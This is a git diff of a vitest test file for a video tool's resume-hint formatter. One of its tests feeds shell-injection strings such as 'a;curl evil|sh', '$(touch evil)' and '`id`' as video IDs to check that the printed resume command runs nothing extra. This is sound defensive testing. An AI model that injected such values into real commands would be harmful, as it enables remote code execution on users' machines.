@@ -3,11 +3,16 @@ import { expect, test } from "vitest";
 import { ShowreelError } from "../../src/base/errors.ts";
 import { formatResumeHint, withResumeHint } from "../../src/jobs/resume-hint.ts";
 
+const job = { provider: "heygen", surface: "video", ids: { video_id: "v_1" } };
+
 test.each(["v_1", "a;curl evil|sh", "$(touch evil)", "it's", "`id`", "-x", "a b"])(
   "a shell reads the command that resumes %j as flags and the id, and runs nothing else",
   (id) => {
     const hint =
-      formatResumeHint({ provider: "heygen", surface: "video", ids: { video_id: id } }, true) ?? "";
+      formatResumeHint(
+        { provider: "heygen", surface: "video", ids: { video_id: id } },
+        { isResumedByRerun: true },
+      ) ?? "";
     const [, rest = ""] = hint.split(": showreel ");
     const argv = execFileSync("/bin/sh", ["-c", `printf '%s\\n' ${rest}`], { encoding: "utf8" })
       .trimEnd()
@@ -17,7 +22,6 @@ test.each(["v_1", "a;curl evil|sh", "$(touch evil)", "it's", "`id`", "-x", "a b"
 );
 
 test("the resume hint keeps every fact of an error, but not that nothing was submitted", () => {
-  const job = { provider: "heygen", surface: "video", ids: { video_id: "v_1" } };
   const error = new ShowreelError("rate_limited", "Too many requests.", {
     hint: "Run again later.",
     submitted: false,
@@ -38,4 +42,15 @@ test("the resume hint keeps every fact of an error, but not that nothing was sub
     retryAfterMs: 5_000,
     location: { file: "video.md", line: 3 },
   });
+});
+
+test("a re-run is not said to resume a video whose file fails in the same way again", () => {
+  const error = new ShowreelError("invalid_video", "The file is not a playable video.", { recurs: true });
+  const { hint } = withResumeHint(error, job, true) as ShowreelError;
+  expect(hint).toBe(
+    "The video is paid for. A re-run doesn't pay again, but it fails in the same way until the provider " +
+      'changes the file. Once the provider has changed it, download it with `video_id` set to "v_1": ' +
+      "showreel --provider heygen --video-id v_1",
+  );
+  expect((withResumeHint(error, job, false) as ShowreelError).hint).not.toContain("re-run");
 });
